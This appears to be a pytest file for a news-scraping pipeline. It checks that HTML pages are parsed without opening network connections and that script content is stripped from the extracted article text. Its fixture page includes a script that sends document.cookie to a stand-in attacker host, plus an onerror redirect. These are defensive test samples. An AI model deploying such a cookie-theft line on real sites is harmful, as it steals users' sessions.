"""HTML is parsed, never fetched or executed: no stage opens a connection, whatever the page references."""

from __future__ import annotations

import socket

import pytest

from streams.pipeline import Pipeline
from streams.schemas import RawArticle
from streams.settings import Settings

PAGE = """<!doctype html><html><head>
<title>Harbour strike spreads to a second port</title>
<link rel="stylesheet" href="https://cdn.example.org/site.css">
<script src="https://tracker.example.net/t.js"></script>
<script>fetch("https://evil.example.com/steal?c=" + document.cookie)</script>
<meta http-equiv="refresh" content="0; url=https://example.com/elsewhere">
</head><body>
<iframe src="https://ads.example.com/frame"></iframe>
<img src="https://images.example.com/photo.jpg" onerror="location='https://x.example'">
<h1>Harbour strike spreads to a second port</h1>
<p>Dock workers at the northern port joined the strike on Monday, union officials said, halting container
traffic for a second day as talks with the port authority stalled.</p>
<p>The authority said contingency crews would keep fuel deliveries moving, and that it expected to meet the
union again on Wednesday to discuss the new shift rota that set off the dispute.</p>
<object data="https://example.com/movie.swf"></object>
<a href="https://example.com/more">More on this story</a>
</body></html>"""


def test_processing_a_page_full_of_external_references_opens_no_connection(monkeypatch, tmp_path):
    attempts: list[object] = []

    def refuse(*args: object, **kwargs: object) -> None:
        attempts.append(args)
        raise AssertionError(f"a stage tried to open a connection: {args!r}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    pipeline = Pipeline(Settings(data_dir=tmp_path, web_enabled=False))
    outcome = pipeline.run(RawArticle(id="page-1", source="port-news", html=PAGE))
    assert attempts == []
    article = outcome.article
    assert article is not None
    assert article.title == "Harbour strike spreads to a second port"
    assert "Dock workers" in article.text and "authority said" in article.text
    for leaked in ("fetch(", "document.cookie", "tracker.example", "More on this story"):
        assert leaked not in article.text


@pytest.mark.parametrize("depth", [10_000])
def test_deeply_nested_tags_are_parsed_without_recursion_errors(tmp_path, depth):
    html = (
        "<div>" * depth
        + "<p>"
        + "A sentence about the harbour strike and its talks. " * 8
        + "</p>"
        + "</div>" * depth
    )
    pipeline = Pipeline(Settings(data_dir=tmp_path, web_enabled=False))
    outcome = pipeline.run(RawArticle(id="deep", source="port-news", title="Harbour talks", html=html))
    assert outcome.article is not None and "harbour strike" in outcome.article.text
